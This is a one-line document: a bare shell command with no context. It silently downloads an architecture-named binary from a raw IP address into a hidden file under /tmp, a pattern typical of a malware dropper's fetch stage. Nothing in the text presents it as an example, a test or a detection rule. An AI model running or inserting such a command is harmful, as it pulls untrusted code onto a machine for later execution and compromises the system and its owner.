curl -fsSL "http://198.51.100.23/x86_64" -o /tmp/.k
